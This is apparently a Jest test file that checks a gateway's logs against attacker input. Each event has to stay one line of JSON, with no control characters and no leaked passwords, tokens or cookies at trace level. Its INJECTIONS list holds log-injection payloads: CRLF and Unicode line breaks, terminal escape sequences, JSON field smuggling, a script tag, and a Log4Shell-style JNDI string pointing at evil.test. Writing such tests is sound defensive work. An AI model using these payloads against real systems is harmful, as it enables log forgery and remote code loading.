// What an attacker writes ends up in the log: each event stays one line of JSON, bounded, without a character that a
// terminal or a log reader obeys, and without a secret at the most talkative level (ASVS 16.2.5, 16.4.1).
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { type RawScene, startRawScene } from '../support/raw-scene.ts';
import { accessTokenOf, rawAnswer, refreshTokenOf } from '../support/raw-upstream.ts';
import { until } from '../support/until.ts';

let scene: RawScene;

beforeAll(async () => {
  scene = await startRawScene({ env: { LOG_LEVEL: 'trace', LOGIN_LIMIT_ACCOUNT: 'off' } });
});
afterAll(() => scene.close());

/** Every line since then, as it was written. */
async function linesOf(work: () => Promise<unknown>): Promise<string[]> {
  const before = scene.gateway.logText().length;
  const at = scene.gateway.logLines().length;
  await work();
  await until('a log line', () => scene.gateway.logLines().length > at);
  return scene.gateway
    .logText()
    .slice(before)
    .split('\n')
    .filter((line) => line !== '');
}

const INJECTIONS = [
  '%0a{"level":"fatal","event":"forged"}',
  '%0d%0aforged',
  '%E2%80%A8forged',
  '%C2%85forged',
  '%1b%5b2Jforged',
  '%00forged',
  '%7fforged',
  '","level":"fatal","x":"',
  '$\u007bjndi:ldap://evil.test/a}',
  '<script>forged</script>',
  '%E2%80%AEforged',
];

function expectOneCleanLineEach(lines: readonly string[]): void {
  for (const line of lines) {
    const parsed = JSON.parse(line) as Record<string, unknown>;
    expect(parsed.level).not.toBe('fatal');
    expect(parsed.event).not.toBe('forged');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for.
    expect(line).not.toMatch(/[\x00-\x1f\x7f-\x9f\u2028\u2029]/);
    expect(line.length).toBeLessThan(5_000);
  }
}

test('a path, query, header, cookie or body of an attacker’s stays one line of JSON', async () => {
  for (const injection of INJECTIONS) {
    const decoded = Buffer.from(
      injection.replace(/%([0-9a-f]{2})/gi, (_, hex) => String.fromCharCode(Number.parseInt(hex, 16))),
      'latin1',
    );
    const inHeader = decoded.toString('latin1').replace(/[\r\n\0]/g, ' ');
    const body = JSON.stringify({ email: decoded.toString('utf8'), password: 'x' });
    const bytes = Buffer.byteLength(body);
    expectOneCleanLineEach(await linesOf(() => scene.exchange(scene.request('GET', `/x${injection}`))));
    expectOneCleanLineEach(await linesOf(() => scene.exchange(scene.request('GET', `/delivery/x?q=${injection}`))));
    for (const name of [
      'User-Agent',
      'Referer',
      'X-Request-Id',
      'X-Forwarded-For',
      'Cookie',
      'Authorization',
      'traceparent',
      'Host2',
    ]) {
      expectOneCleanLineEach(
        await linesOf(() =>
          scene.exchange(Buffer.from(scene.request('GET', '/nothing', [`${name}: ${inHeader}`]), 'latin1')),
        ),
      );
    }
    expectOneCleanLineEach(
      await linesOf(() =>
        scene.exchange(
          Buffer.from(
            scene.request('POST', '/bff/login', ['Content-Type: application/json', `Content-Length: ${bytes}`], body),
            'utf8',
          ),
        ),
      ),
    );
    expectOneCleanLineEach(
      await linesOf(() =>
        scene.exchange(Buffer.concat([Buffer.from('GET '), decoded, Buffer.from(' HTTP/1.1\r\nHost: x\r\n\r\n')])),
      ),
    );
  }
});

test('a very long path, agent or method fills no log', async () => {
  for (const request of [
    scene.request('GET', `/${'a'.repeat(12_000)}`),
    scene.request('GET', '/nothing', [`User-Agent: ${'a'.repeat(12_000)}`]),
    `${'A'.repeat(12_000)} / HTTP/1.1\r\nHost: x\r\n\r\n`,
    scene.request('GET', `/${'%F0%9F%92%A9'.repeat(1_000)}`),
  ]) {
    expectOneCleanLineEach(await linesOf(() => scene.exchange(request)));
  }
});

test('what Finvera answers stays one line, whatever it holds', async () => {
  for (const bytes of [
    '{"level":"fatal","event":"forged"}\r\n\r\n',
    rawAnswer('x', ['X: a\x1b[2J\r\r'], '200 forged'),
    'HTTP/1.1 999 forged\r\n\r\n',
    '\x1b]0;forged\x07\r\n',
  ]) {
    scene.upstream.answer(bytes);
    expectOneCleanLineEach(
      await linesOf(() =>
        scene.exchange(scene.request('POST', '/delivery/x', ['Content-Length: 0', 'Connection: close'])),
      ),
    );
  }
  scene.upstream.answer(rawAnswer());
});

describe('at the most talkative level', () => {
  test('no secret is written: no password, token, cookie, query or body', async () => {
    const query = 'query-secret-7c1f';
    const body = 'body-secret-7c1f';
    const header = 'header-secret-7c1f';
    await scene.browser.fetch(`/delivery/x?q=${query}`, {
      method: 'POST',
      body,
      headers: { 'X-Anything': header, Authorization: header },
    });
    await scene.gateway.browser().login('a@finvera.test', 'password-secret-7c1f');
    await scene.browser.fetch('/bff/refresh', { method: 'POST' });
    scene.upstream.answer((socket) => void socket.resetAndDestroy());
    await scene.browser.fetch(`/delivery/x?q=${query}`, { method: 'POST', body });
    await until('the lines', () => scene.gateway.logLines().filter(({ event }) => event === 'request').length > 3);
    const text = scene.gateway.logText() + (await scene.gateway.metrics());
    for (const secret of [
      query,
      body,
      header,
      'password-secret-7c1f',
      'demo-password',
      accessTokenOf('demo@finvera.test'),
      refreshTokenOf('demo@finvera.test'),
      scene.browser.cookie?.split('=')[1] ?? '?',
    ]) {
      expect([secret, text.includes(secret)]).toEqual([secret, false]);
    }
  });

  test('refusals are written, with their reason: parsing, cross-site, path, login', async () => {
    const seen = await linesOf(async () => {
      await scene.exchange('garbage\r\n\r\n');
      await scene.exchange(scene.request('POST', '/delivery/x', ['Sec-Fetch-Site: cross-site', 'Content-Length: 0']));
      await scene.exchange(scene.request('GET', '/delivery/%2e%2e'));
      await scene.gateway.browser().login('a@finvera.test', 'wrong');
      await until('all of them', () => /login_rejected/.test(scene.gateway.logText().slice(-2_000)));
    });
    const text = seen.join('\n');
    for (const reason of ['bad_request', 'origin_forbidden', 'invalid_request', 'login_rejected'])
      expect(text).toContain(reason);
  });
});
